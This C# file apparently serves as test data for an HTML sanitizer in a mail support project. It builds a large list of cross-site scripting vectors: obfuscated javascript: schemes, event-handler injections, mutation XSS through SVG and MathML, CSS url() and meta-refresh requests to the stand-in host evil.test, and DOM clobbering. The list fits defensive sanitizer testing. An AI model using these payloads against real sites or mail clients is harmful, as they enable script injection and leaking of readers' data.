using System.Globalization;

namespace M365Support.Mail.Html;

/// <summary>Attacks on whoever shows foreign HTML: each calls <c>hit()</c> or fetches from <c>evil.test</c> where it works.</summary>
internal static class XssVectors
{
    private const string Run = "hit()";
    private const string Evil = "http://evil.test/x";

    private static readonly string[] Handlers =
    [
        "onload", "onerror", "onclick", "onmouseover", "onmouseenter", "onmousemove", "onfocus", "onfocusin", "onblur", "ontoggle", "onbeforetoggle", "onanimationstart", "onanimationend", "ontransitionend",
        "ontransitionrun", "onpointerover", "onpointerenter", "onpointerdown", "onpointerrawupdate", "onwheel", "onscroll", "onscrollend", "oncopy", "oncut", "onpaste", "onkeydown", "onkeyup", "oninput", "onbeforeinput",
        "onchange", "onsearch", "onselect", "onselectstart", "onselectionchange", "onsubmit", "onreset", "ondrag", "ondragstart", "ondrop", "oncontextmenu", "onauxclick", "ondblclick", "onresize", "onpageshow", "onhashchange",
        "onmessage", "onpopstate", "onunhandledrejection", "onslotchange", "oncontentvisibilityautostatechange", "onsecuritypolicyviolation", "onformdata", "oninvalid", "oncuechange", "onplay", "onloadstart", "ongotpointercapture", "onwebkitanimationstart", "onfullscreenchange",
    ];

    private static readonly string[] Carriers =
    [
        "<div tabindex=1 autofocus HANDLER>x</div>", "<img src=x HANDLER>", "<details open HANDLER>x</details>", "<body HANDLER>", "<a href=# HANDLER>x</a>", "<svg HANDLER>", "<input autofocus HANDLER>", "<x contenteditable autofocus HANDLER>x</x>",
    ];

    private static readonly string[] Schemes =
    [
        "javascript:hit()", "JAVASCRIPT:hit()", "jAvAsCrIpT:hit()", " javascript:hit()", "\u0001javascript:hit()", "\tjava\tscript:hit()", "java\nscript:hit()", "java\rscript:hit()", "java\0script:hit()", "javascript\t:hit()", "javascript&colon;hit()",
        "javascript&#58;hit()", "javascript&#x3A;hit()", "&#106;avascript:hit()", "&#0000000000000106;avascript:hit()", "&#x6a;avascript:hit()", "java&Tab;script:hit()", "java&NewLine;script:hit()", "javascript://%0ahit()", "javascript://contoso.example/%0ahit()",
        "javascript:/*--></title></style></textarea></script>*/hit()", "\u2028javascript:hit()", "\u00a0javascript:hit()", "\ufeffjavascript:hit()", "vbscript:hit()", "livescript:hit()", "mocha:hit()", "data:text/html,<script>hit()</script>",
        "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='hit()'/>", "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>hit()</script>", "data:,hit()", "blob:null/x",
        "filesystem:http://evil.test/x", "view-source:http://evil.test/x", "about:blank#<script>hit()</script>", "//evil.test/x", "\\\\evil.test\\x", "/\\evil.test/x", "http:evil.test", "https:/javascript:hit()", "file:///etc/passwd", "cid:javascript:hit()", "mailto:x@evil.test?body=<script>hit()</script>",
        "jar:http://evil.test!/x", "feed:javascript:hit()", "intent://evil.test#Intent;end", "ms-office:ofe|u|http://evil.test/x", "search-ms:query=x", "tel:<script>hit()</script>",
    ];

    private static readonly string[] Addressed =
    [
        "<a href=\"URL\">x</a>", "<a href='URL' target=_self>x</a>", "<img src=\"URL\">", "<img srcset=\"URL 1x\">", "<iframe src=\"URL\"></iframe>", "<embed src=\"URL\">", "<object data=\"URL\"></object>", "<form action=\"URL\"><button autofocus>x</button></form>",
        "<meta http-equiv=refresh content=\"0;url=URL\">", "<base href=\"URL\">", "<link rel=stylesheet href=\"URL\">", "<script src=\"URL\"></script>", "<svg><a xlink:href=\"URL\"><text y=20>x</text></a></svg>", "<math><mi href=\"URL\">x</mi></math>", "<body background=\"URL\">",
        "<table background=\"URL\"><tr><td>x</table>", "<video src=\"URL\" autoplay></video>", "<video poster=\"URL\"></video>", "<audio src=\"URL\" autoplay></audio>", "<input type=image src=\"URL\">", "<isindex action=\"URL\">", "<area href=\"URL\">", "<blockquote cite=\"URL\">x</blockquote>",
        "<div style=\"background:url(URL)\">x</div>", "<picture><source srcset=\"URL\"><img></picture>", "<track src=\"URL\">", "<applet code=\"URL\">", "<frameset><frame src=\"URL\"></frameset>", "<svg><image href=\"URL\"/></svg>", "<svg><use href=\"URL\"/></svg>", "<portal src=\"URL\"></portal>",
    ];

    private static readonly string[] Markup =
    [
        // Scripts, whole and in pieces
        $"<script>{Run}</script>", $"<script>{Run}", $"<SCRIPT>{Run}</SCRIPT>", $"<script/x>{Run}</script>", $"<script\t>{Run}</script\n>", $"<scr<script>ipt>{Run}</scr</script>ipt>", $"<<script>{Run};//<</script>", $"<script><!--\n{Run}\n--></script>",
        $"<script type=module>{Run}</script>", $"<script type=text/vbscript>{Run}</script>", $"<script async src=data:text/javascript,{Run}></script>", $"<svg><script>{Run}</script></svg>", "<svg><script>&#104;it()</script></svg>", $"<svg><script href=data:,{Run} />", $"<math><script>{Run}</script></math>",
        $"<script\u0020\u000c>{Run}</script>", "<script>hit`1`</script>", "\u003cscript\u003ehit()\u003c/script\u003e", $"<\0script>{Run}</script>", $"<scr\0ipt>{Run}</script>", $"\ufeff<script>{Run}</script>", $"<script\ufeff>{Run}</script>", "＜script＞hit()＜/script＞", "+ADw-script+AD4-hit()+ADw-/script+AD4-", "¼script¾hit()¼/script¾",

        // Comments, declarations, sections
        $"<!--><script>{Run}</script>-->", $"<!---><script>{Run}</script>-->", $"<!-- --!><script>{Run}</script>-->", $"<!--[if true]><script>{Run}</script><![endif]-->", $"<![CDATA[<script>{Run}</script>]]>", $"<svg><![CDATA[</svg><script>{Run}</script>]]>", $"<?xml ?><script>{Run}</script>", $"<!DOCTYPE x [<!ENTITY y '<script>{Run}</script>'>]>&y;",
        $"<!<script>{Run}</script>", $"</ <script>{Run}</script>", $"<!-- <img title=\"--><img src=x onerror={Run}>\"> -->", $"<!--\0--><img src=x onerror={Run}>", $"<![if !IE]><img src=x onerror={Run}><![endif]>", $"<%<!--'%><script>{Run}</script -->",

        // Attributes that end early
        $"<p title=\"\"><img src=x onerror={Run}>\">", $"<p title='\"><img src=x onerror={Run}>'>", $"<p title=`><img src=x onerror={Run}>`>", $"<p title=\"&quot;><img src=x onerror={Run}>\">", $"<p title=\"&#34;&gt;&lt;img src=x onerror={Run}&gt;\">", $"<img alt=\"x` `onerror={Run} src=x\">", $"<img alt='\" onerror={Run} ' src=x>",
        $"<img src=\"x\"onerror=\"{Run}\">", $"<img/src/onerror={Run}>", $"<img src=x\u000conerror={Run}>", $"<img src=x onerror\n=\n{Run}>", $"<img src=x on\0error={Run}>", $"<img src=x onerror='&#104;it()'>", $"<a title=\"--!><img src=x onerror={Run}>\">x</a>", $"<p style=\"x\" style='\"><img src=x onerror={Run}>'>", $"<div lang='\"><img src=x onerror={Run}>'>x</div>",
        $"<td align='\"><img src=x onerror={Run}>'>x", $"<font color='\" onmouseover={Run} x=\"'>x</font>", $"<img width='1\" onerror={Run} x=\"' src=x>", $"<a href=\"http://a.test/\" title='\" onfocus={Run} autofocus x=\"'>x</a>", $"<a href='http://a.test/\" onfocus={Run} autofocus x=\"'>x</a>",

        // Raw text and escapable raw text, which a second parse sees otherwise
        $"<noscript><p title=\"</noscript><img src=x onerror={Run}>\">", $"<noscript><style></noscript><img src=x onerror={Run}>", $"<noscript><!--</noscript><img src=x onerror={Run}>-->", $"<textarea><p title=\"</textarea><img src=x onerror={Run}>\">", $"<title><p title=\"</title><img src=x onerror={Run}>\">", $"<style><p title=\"</style><img src=x onerror={Run}>\">", $"<xmp><p title=\"</xmp><img src=x onerror={Run}>\">",
        $"<iframe><p title=\"</iframe><img src=x onerror={Run}>\">", $"<noembed><p title=\"</noembed><img src=x onerror={Run}>\">", $"<noframes><p title=\"</noframes><img src=x onerror={Run}>\">", $"<plaintext><img src=x onerror={Run}>", $"<listing>&lt;img src=x onerror={Run}&gt;</listing>", $"<pre>\n&lt;img src=x onerror={Run}&gt;</pre>", $"<xmp>&lt;/xmp>&lt;img src=x onerror={Run}&gt;</xmp>", $"<textarea>&lt;/textarea&gt;&lt;img src=x onerror={Run}&gt;</textarea>",

        // Mutation through foreign content
        $"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={Run}&gt;\">", $"<form><math><mtext></form><form><mglyph><style></math><img src onerror={Run}>", $"<math><mtext><table><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror={Run} src=1>\">",
        $"<svg></p><style><a id=\"</style><img src=1 onerror={Run}>\">", $"<svg><p><style><g title=\"</style><img src=x onerror={Run}>\">", $"<svg><foreignObject><math><mi><style><!--</style><img src=x onerror={Run}>", $"<math><annotation-xml encoding=\"text/html\"><style></math><img src=x onerror={Run}></style>", $"<math><mtext><mglyph><svg><mtext><style><path id=\"</style><img src=x onerror={Run}>\">",
        $"<svg><desc><title><style><img title=\"</style><img src=x onerror={Run}>\">", $"<svg><title><![CDATA[</title><img src=x onerror={Run}>]]></svg>", $"<math><mi><![CDATA[</mi><img src=x onerror={Run}>]]>", $"<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title=\"</style><img src='#' onerror='{Run}'>\">",
        $"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror={Run} src>\">", $"<table><math><select><mglyph><style><math><table id=\"</style><img src=x onerror={Run}>\">", $"<select><style></select><svg><style><img src=x onerror={Run}></style>", $"<svg><b><style>&lt;/style>&lt;img src=x onerror={Run}></style></b></svg>",
        $"<math><style><img src=x onerror={Run}></style></math>", $"<svg><style>&lt;img src=x onerror={Run}&gt;</style></svg>", $"<svg><noscript><style><img title=\"</style></noscript><img src=x onerror={Run}>\">", $"<div><svg><br><style><a title=\"</style><img src=x onerror={Run}>\">", $"<svg><font color=red><style><img src=x onerror={Run}></style></font></svg>", $"<math><ms><table><style><img title=\"</style><img src=x onerror={Run}>\">",

        // SVG and MathML of their own
        $"<svg onload={Run}>", $"<svg/onload={Run}/>", $"<svg><animate onbegin={Run} attributeName=x dur=1s>", $"<svg><set attributeName=onmouseover to={Run}>", $"<svg><a><animate attributeName=href values=javascript:{Run} /><text y=20>x</text></a></svg>", $"<svg><image href=x onerror={Run}></svg>", $"<svg><discard onbegin={Run}>", $"<svg><foreignObject><iframe srcdoc='<script>parent.{Run}</script>'></iframe></foreignObject></svg>",
        $"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='{Run}'/></svg>#x\"/></svg>", $"<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event='load'>{Run}</handler></svg>", $"<svg><style>@import '{Evil}'</style></svg>", $"<svg><filter><feImage href='{Evil}'/></filter></svg>", $"<math><maction actiontype=statusline xlink:href=javascript:{Run}>x</maction></math>", $"<math href=javascript:{Run}><mi>x</mi></math>",

        // Frames, forms, templates, custom elements
        $"<iframe srcdoc='<script>parent.{Run}</script>'></iframe>", $"<iframe srcdoc=\"&lt;img src=x onerror=parent.{Run}&gt;\"></iframe>", $"<iframe src=\"data:text/html,<script>parent.{Run}</script>\"></iframe>", $"<object type=text/html data='data:text/html,<script>parent.{Run}</script>'></object>", $"<embed type=image/svg+xml src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{Run}'/>\">",
        $"<form><button formaction=javascript:{Run} autofocus>x</button></form>", $"<form id=f action=javascript:{Run}></form><input type=submit form=f autofocus>", $"<form><input name=attributes><input name=nodeName></form><img src=x onerror={Run}>", $"<form onsubmit={Run}><input autofocus></form>", $"<button popovertarget=x>x</button><div id=x popover onbeforetoggle={Run}>x</div>", $"<dialog open onclose={Run}><form method=dialog><button autofocus>x",
        $"<template><img src=x onerror={Run}></template>", $"<template><script>{Run}</script></template>", $"<div><template shadowrootmode=open><img src=x onerror={Run}></template></div>", $"<div><template shadowroot=open><script>{Run}</script></template></div>", $"<select><template><img src=x onerror={Run}></template></select>", $"<slot onslotchange={Run}>x</slot>", $"<x-y is=z onclick={Run}>x</x-y>",
        $"<table><script>{Run}</script><tr><td><img src=x onerror={Run}></table>", $"<select><script>{Run}</script></select>", $"<select><img src=x onerror={Run}></select>", $"<option><img src=x onerror={Run}></option>", $"<marquee loop=1 onfinish={Run}>x</marquee>", $"<keygen autofocus onfocus={Run}>", $"<frameset onload={Run}>", $"<body onpageshow={Run}>", $"<html onmouseover={Run}><body>x", $"<image src=x onerror={Run}>",
        $"<video><source onerror={Run}></video>", $"<video onloadstart={Run} src=x></video>", $"<audio src onloadstart={Run}>", $"<object onerror={Run} data=x></object>", $"<link rel=stylesheet href=x onerror={Run}>", $"<style onload={Run}></style>", $"<script onerror={Run} src=x></script>", $"<iframe onload={Run}></iframe>", $"<input type=image src=x onerror={Run}>", $"<bgsound src=javascript:{Run}>",

        // Styles
        $"<style>body{{background:url({Evil})}}</style>", $"<style>@import '{Evil}';</style>", $"<style>@font-face{{font-family:x;src:url({Evil})}}*{{font-family:x}}</style>", $"<link rel=stylesheet href={Evil}>", $"<link rel=preload as=image href={Evil}>", $"<link rel=prefetch href={Evil}>", $"<link rel=dns-prefetch href=//evil.test>", $"<link rel=icon href={Evil}>", $"<link rel=manifest href={Evil}>",
        $"<div style='background:url({Evil})'>x</div>", $"<div style='background:url(&quot;{Evil}&quot;)'>x</div>", $"<div style='background:u\\72l({Evil})'>x</div>", $"<div style='background:\\75\\72\\6c({Evil})'>x</div>", $"<div style='background:url/**/({Evil})'>x</div>", $"<div style='background:image-set(\"{Evil}\" 1x)'>x</div>", $"<div style='background:-webkit-image-set(url({Evil}) 1x)'>x</div>",
        $"<div style='background:image({Evil})'>x</div>", $"<div style='background:cross-fade(url({Evil}),red)'>x</div>", $"<div style='content:url({Evil})'>x</div>", $"<div style='cursor:url({Evil}),auto'>x</div>", $"<div style='list-style-image:url({Evil})'>x</div>", $"<ul style='list-style:url({Evil})'><li>x</ul>", $"<div style='border-image:url({Evil}) 1'>x</div>", $"<div style='mask:url({Evil})'>x</div>", $"<div style='filter:url({Evil}#x)'>x</div>",
        $"<div style='clip-path:url({Evil}#x)'>x</div>", $"<div style='shape-outside:url({Evil});float:left'>x</div>", $"<div style='--x:url({Evil});background:var(--x)'>x</div>", $"<div style='background:attr(data-x url)' data-x={Evil}>x</div>", $"<div style='font-family:\"x;background:url({Evil});\"'>x</div>", $"<div style='color:red;/*' title='*/background:url({Evil})'>x</div>", $"<div style=\"font-family:'</style><img src=x onerror={Run}>'\">x</div>",
        $"<div style='width:expression({Run})'>x</div>", $"<div style='width:ex/**/pression({Run})'>x</div>", $"<div style='-moz-binding:url({Evil})'>x</div>", $"<div style='behavior:url({Evil})'>x</div>", "<div style='position:fixed;inset:0;z-index:99999;background:red'>x</div>", $"<div style='background:url(javascript:{Run})'>x</div>", $"<p style='background-color:rgb(0,0,0);background-image:src(\"{Evil}\")'>x</p>",

        // What goes out
        $"<img src={Evil}>", $"<img src='{Evil}' loading=eager width=300>", $"<img srcset='{Evil} 2x'>", $"<img src=cid:x srcset='{Evil}'>", $"<img src=data:image/png;base64,AAAA srcset={Evil}>", $"<img src=//evil.test/x>", $"<img src='\\\\evil.test\\x'>", $"<img src='/\\evil.test/x'>", $"<img src='http://evil.test@contoso.example/x'>", $"<img lowsrc={Evil} dynsrc={Evil} src=x>", $"<picture><source srcset={Evil}><img src=x></picture>", $"<video poster={Evil}>", $"<video src={Evil} autoplay muted>",
        $"<audio src={Evil} autoplay>", $"<object data={Evil}>", $"<embed src={Evil}>", $"<iframe src={Evil}></iframe>", $"<input type=image src={Evil}>", $"<body background={Evil}>", $"<table background={Evil}><td background={Evil}>x", $"<svg><image href={Evil} /></svg>", $"<svg><image xlink:href={Evil} /></svg>", $"<svg><use href={Evil}#x /></svg>", $"<base href=http://evil.test/><img src=x>", $"<base target=_top><a href={Evil}>x</a>", $"<meta http-equiv=refresh content='0;url={Evil}'>", $"<meta http-equiv=refresh content='0;{Evil}'>",
        $"<meta http-equiv=Content-Security-Policy content='img-src *'><img src={Evil}>", "<meta http-equiv=set-cookie content='a=b'>", $"<meta charset=utf-7>+ADw-img src={Evil}+AD4-", $"<link rel=preconnect href=http://evil.test>", $"<a href={Evil} ping={Evil}>x</a>", $"<script src={Evil}></script>", $"<form action={Evil}><input autofocus onfocus=this.form.submit()></form>", $"<applet archive={Evil} code=x>", $"<bgsound src={Evil}>", $"<frame src={Evil}>", $"<portal src={Evil}></portal>", $"<html manifest={Evil}>", $"<track src={Evil}>", $"<command icon={Evil}>", $"<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"{Evil}\"/></svg>'>", $"<div style=\"background:url('{Evil}\">x</div>",

        // Shadowing and the opener
        "<img name=cookie><img id=body name=body>", "<form name=document><input name=cookie></form>", "<a id=hit href=cid:x></a><a id=hit name=x href=cid:x>", "<iframe name=hit srcdoc=x></iframe>", $"<a href={Evil} target=_blank rel=opener>x</a>", $"<a href={Evil} target=_top>x</a>", $"<a href={Evil} target=x onclick={Run}>x</a>", "<p id=__proto__ name=constructor class=x slot=y part=z>x</p>",

        // Odd nesting
        $"<a><a><a href=javascript:{Run}>x</a>", $"<p><table><p><img src=x onerror={Run}>", $"<b><i></b><img src=x onerror={Run}></i>", $"<table><a href=javascript:{Run}>x<tr><td>y", $"<ruby><rt><script>{Run}</script>", $"<dl><dt><dd><script>{Run}</script>", $"<nobr><nobr><img src=x onerror={Run}>", $"<h1><h2><img src=x onerror={Run}>", $"<br/onmouseover={Run}>", $"<hr onclick={Run}>", $"<wbr onfocus={Run} tabindex=1 autofocus>", $"<col onclick={Run}>", $"<a href=http://a.test/><svg><a href=javascript:{Run}><text>x",
    ];

    /// <summary>All of them.</summary>
    public static IReadOnlyList<string> All { get; } =
    [
        .. Markup,
        .. Handlers.SelectMany((handler, i) => new[] { Carriers[i % Carriers.Length], Carriers[(i + 3) % Carriers.Length] }, (handler, carrier) => carrier.Replace("HANDLER", $"{handler}={Run}", StringComparison.Ordinal)),
        .. Schemes.SelectMany((scheme, i) => Enumerable.Range(0, 6).Select(k => Addressed[(i + (k * 5)) % Addressed.Length]).Prepend(Addressed[0]).Distinct(StringComparer.Ordinal), (scheme, place) => place.Replace("URL", scheme.Replace("\"", "&quot;", StringComparison.Ordinal), StringComparison.Ordinal)),
        .. Enumerable.Range(0, 128).Select(code => string.Create(CultureInfo.InvariantCulture, $"<img src=x{(char)code}onerror={Run}>")),
        .. Enumerable.Range(0, 33).Select(code => string.Create(CultureInfo.InvariantCulture, $"<a href=\"{(char)code}java{(char)code}script:{Run}\">x</a>")),
    ];
}
